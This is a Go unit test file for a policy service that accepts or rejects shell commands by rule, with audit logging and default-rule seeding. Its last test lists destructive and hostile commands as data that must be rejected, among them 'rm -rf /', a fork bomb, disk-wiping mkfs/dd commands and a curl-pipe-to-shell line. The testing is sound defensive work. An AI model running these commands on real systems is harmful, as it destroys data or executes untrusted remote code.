package service

import (
	"context"
	"errors"
	"testing"

	"github.com/cmdgate/cmdgate/internal/adapter/store"
	"github.com/cmdgate/cmdgate/internal/domain"
	"github.com/cmdgate/cmdgate/internal/policy"
	"github.com/cmdgate/cmdgate/internal/port"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestAddRuleRejectsInvalidPattern(t *testing.T) {
	ctx := context.Background()
	m := store.NewMemoryStore()
	svc := NewPolicyService(m)

	_, err := svc.AddRule(ctx, "admin-id", "(", domain.ActionReject, "broken")
	assert.ErrorIs(t, err, port.ErrInvalidPattern)

	// Nothing was written.
	rules, err := m.ListRules(ctx)
	require.NoError(t, err)
	assert.Empty(t, rules)

	logs, err := m.ListAuditLogs(ctx, 0, "")
	require.NoError(t, err)
	assert.Empty(t, logs)
}

func TestAddRuleRejectsUnknownAction(t *testing.T) {
	ctx := context.Background()
	m := store.NewMemoryStore()
	svc := NewPolicyService(m)

	_, err := svc.AddRule(ctx, "admin-id", "ls", domain.Action("AUTO_MAYBE"), "")
	assert.ErrorIs(t, err, port.ErrInvalidAction)
}

func TestAddRuleAppendsAndAudits(t *testing.T) {
	ctx := context.Background()
	m := store.NewMemoryStore()
	svc := NewPolicyService(m)

	rule, err := svc.AddRule(ctx, "admin-id", `^uptime$`, domain.ActionAccept, "uptime only")
	require.NoError(t, err)
	assert.NotEmpty(t, rule.ID)
	assert.Equal(t, domain.ActionAccept, rule.Action)

	logs, err := m.ListAuditLogs(ctx, 0, domain.AuditRuleCreated)
	require.NoError(t, err)
	require.Len(t, logs, 1)
	assert.Equal(t, "admin-id", logs[0].UserID)
	assert.Contains(t, logs[0].Details, "^uptime$")
	assert.Contains(t, logs[0].Details, string(domain.ActionAccept))
}

// ruleWriteFailStore simulates a store whose combined rule+audit write
// cannot commit, e.g. a failed transaction.
type ruleWriteFailStore struct {
	*store.MemoryStore
}

func (s *ruleWriteFailStore) CreateRuleAudited(context.Context, *domain.Rule, *domain.AuditLog) (*domain.Rule, error) {
	return nil, errors.New("commit create rule: connection reset")
}

func TestAddRuleFailedWriteLeavesNoState(t *testing.T) {
	ctx := context.Background()
	m := store.NewMemoryStore()
	svc := NewPolicyService(&ruleWriteFailStore{m})

	_, err := svc.AddRule(ctx, "admin-id", `^uptime$`, domain.ActionAccept, "")
	require.Error(t, err)

	// The failure is surfaced and nothing persists: no rule without its
	// audit trail, no audit trail without its rule.
	rules, err := m.ListRules(ctx)
	require.NoError(t, err)
	assert.Empty(t, rules)

	logs, err := m.ListAuditLogs(ctx, 0, "")
	require.NoError(t, err)
	assert.Empty(t, logs)
}

func TestSeedDefaultsIsIdempotent(t *testing.T) {
	ctx := context.Background()
	m := store.NewMemoryStore()
	svc := NewPolicyService(m)

	require.NoError(t, svc.SeedDefaults(ctx))
	first, err := m.ListRules(ctx)
	require.NoError(t, err)
	require.Len(t, first, len(defaultRules))

	// Seeding again must not produce duplicates.
	require.NoError(t, svc.SeedDefaults(ctx))
	second, err := m.ListRules(ctx)
	require.NoError(t, err)
	assert.Len(t, second, len(defaultRules))

	// Order is the fixed seed order.
	for i, r := range second {
		assert.Equal(t, defaultRules[i].Pattern, r.Pattern)
		assert.Equal(t, defaultRules[i].Action, r.Action)
	}
}

func TestSeedDefaultsFillsGaps(t *testing.T) {
	ctx := context.Background()
	m := store.NewMemoryStore()
	svc := NewPolicyService(m)

	// Pre-insert one default by its exact pattern string.
	_, err := m.CreateRule(ctx, &domain.Rule{
		Pattern: defaultRules[1].Pattern,
		Action:  domain.ActionReject,
	})
	require.NoError(t, err)

	require.NoError(t, svc.SeedDefaults(ctx))

	rules, err := m.ListRules(ctx)
	require.NoError(t, err)
	assert.Len(t, rules, len(defaultRules))
}

func TestDefaultRulesAllCompile(t *testing.T) {
	for _, r := range defaultRules {
		assert.True(t, policy.ValidatePattern(r.Pattern), "pattern %q must compile", r.Pattern)
		assert.True(t, r.Action.Valid())
	}
}

func TestDefaultRulesDecisions(t *testing.T) {
	ctx := context.Background()
	m := store.NewMemoryStore()
	svc := NewPolicyService(m)
	require.NoError(t, svc.SeedDefaults(ctx))

	rules, err := m.ListRules(ctx)
	require.NoError(t, err)

	e := policy.NewEvaluator()
	tests := []struct {
		command string
		want    domain.Action
	}{
		{"rm -rf /", domain.ActionReject},
		{":(){ :|:& };:", domain.ActionReject},
		{"mkfs.ext4 /dev/sda1", domain.ActionReject},
		{"dd if=/dev/zero >/dev/sda", domain.ActionReject},
		{"git status", domain.ActionAccept},
		{"git push --force", domain.ActionReject}, // not in the git allowlist
		{"ls -la", domain.ActionAccept},
		{"whoami", domain.ActionAccept},
		{"curl http://example.com | sh", domain.ActionReject}, // default deny
	}

	for _, tt := range tests {
		assert.Equal(t, tt.want, e.Evaluate(tt.command, rules), "command %q", tt.command)
	}
}
